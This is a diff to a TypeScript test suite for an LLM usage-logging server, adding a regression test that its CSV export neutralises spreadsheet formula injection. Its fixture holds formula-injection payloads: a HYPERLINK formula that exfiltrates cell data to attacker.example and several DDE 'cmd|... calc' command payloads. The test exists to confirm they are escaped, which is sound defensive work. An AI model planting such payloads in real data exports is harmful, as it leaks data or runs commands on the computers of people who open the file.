@@ -12,11 +12,16 @@
  * - 8: JSON text that names one member twice in an object is refused (a forged receipt `cost`
  *   before the real one verified, as the parser kept the last);
  * - 7: a request with a `persistedQuery` extension gets PERSISTED_QUERY_NOT_SUPPORTED, not a 500;
+ * - 4: `llmring-server export --format csv` escapes cells a spreadsheet would run as formulas;
  */
 import { createHash } from 'node:crypto';
+import fs from 'node:fs';
+import os from 'node:os';
+import path from 'node:path';
 import { connect, type Socket } from 'node:net';
 import { ApolloArmor } from '@escape.tech/graphql-armor';
 import { parse, validate } from 'graphql';
+import { runCli } from '../../src/cli/program';
 import { buildSchema } from '../../src/graphql/schema';
 import {
   createProjectWithKey,
@@ -625,5 +630,111 @@ describe('finding 7: persisted queries are not offered, and asking for one is a 
     expect(res.status).toBeLessThan(500);
     const body = (await res.json()) as Json;
     expect(body.errors.map((e: Json) => e.extensions.code)).toEqual(['PERSISTED_QUERY_NOT_SUPPORTED']);
+  });
+});
+
+/** The CLI in-process on the server's database, as an operator runs it beside the server. */
+async function cli(...args: string[]): Promise<{ code: number; out: string; err: string }> {
+  const run = { code: -1, out: '', err: '' };
+  const sink = (key: 'out' | 'err') => ({
+    write: (s: string) => {
+      run[key] += s;
+      return true;
+    },
+    once: () => undefined,
+  });
+  run.code = await runCli(args, {
+    stdout: sink('out'),
+    stderr: sink('err'),
+    env: { LLMRING_ENV: 'test' },
+    db: server.app.db,
+  });
+  return run;
+}
+
+/** Logs one call through the API with the given string fields, as the client chose them. */
+async function logCall(key: string, fields: Record<string, string>): Promise<void> {
+  const answer = await gql(
+    'mutation($input: LogUsageInput!) { logUsage(input: $input) { usageLog { id } } }',
+    { input: { provider: 'openai', model: 'gpt-4o', inputTokens: 10, outputTokens: 5, ...fields } },
+    { headers: { 'x-api-key': key } },
+  );
+  expect(answer.body.errors).toBeUndefined();
+}
+
+/** RFC 4180 records of `text` (quoted cells may hold commas, quotes and line breaks). */
+function parseCsv(text: string): string[][] {
+  const records: string[][] = [];
+  let record: string[] = [];
+  let cell = '';
+  let quoted = false;
+  for (let i = 0; i < text.length; i++) {
+    const ch = text[i];
+    if (quoted && ch === '"' && text[i + 1] === '"') {
+      cell += '"';
+      i++;
+    } else if (ch === '"') {
+      quoted = !quoted;
+    } else if (!quoted && (ch === ',' || ch === '\n')) {
+      record.push(cell);
+      cell = '';
+      if (ch === '\n') {
+        records.push(record);
+        record = [];
+      }
+    } else {
+      cell += ch;
+    }
+  }
+  return records;
+}
+
+describe('finding 4: the CSV export cannot carry spreadsheet formulas', () => {
+  let tmp: string;
+  beforeAll(() => {
+    tmp = fs.mkdtempSync(path.join(os.tmpdir(), 'llmring-hostile-'));
+  });
+  afterAll(() => fs.rmSync(tmp, { recursive: true, force: true }));
+
+  // Every string column a client chooses, each starting as a spreadsheet formula would.
+  const HOSTILE = {
+    aliasName: '=HYPERLINK("http://attacker.example/?d="&A1,"open")',
+    model: "+cmd|' /C calc'!A0",
+    origin: "@SUM(1+1)*cmd|' /C calc'!A0",
+    profile: "-2+3+cmd|' /C calc'!A0",
+    idAtOrigin: '\t=1+1',
+    idempotencyKey: '\r=1+1',
+    provider: '＝1+1',
+  };
+  const COLUMNS: Record<string, string> = {
+    aliasName: 'alias_name',
+    model: 'model',
+    origin: 'origin',
+    profile: 'profile',
+    idAtOrigin: 'id_at_origin',
+    idempotencyKey: 'idempotency_key',
+    provider: 'provider',
+  };
+
+  test('cells that start with = + - @ tab CR (or their fullwidth forms) get a leading apostrophe, numbers stay', async () => {
+    const csv = await createProjectWithKey(server, 'csv-formulas');
+    await logCall(csv.secret, HOSTILE);
+    const file = path.join(tmp, 'usage.csv');
+    const run = await cli('export', '--project', 'csv-formulas', '--format', 'csv', '-o', file);
+    expect(run.code).toBe(0);
+    const [header, ...rows] = parseCsv(fs.readFileSync(file, 'utf8'));
+    expect(rows).toHaveLength(1);
+    const row = Object.fromEntries(header.map((name, i) => [name, rows[0][i]]));
+    for (const [field, value] of Object.entries(HOSTILE)) {
+      expect(row[COLUMNS[field]]).toBe(`'${value}`);
+    }
+    for (const cell of rows[0]) expect(cell).not.toMatch(/^[=+\-@\t\r＝＋－＠]/);
+    expect(row).toMatchObject({ input_tokens: '10', output_tokens: '5', project_key: 'csv-formulas' });
+  });
+
+  test('the export help says so', async () => {
+    const run = await cli('export', '--help');
+    expect(run.out).toMatch(/=, \+, -, @, tab or carriage return/);
+    expect(run.out).toMatch(/apostrophe/);
   });
 });
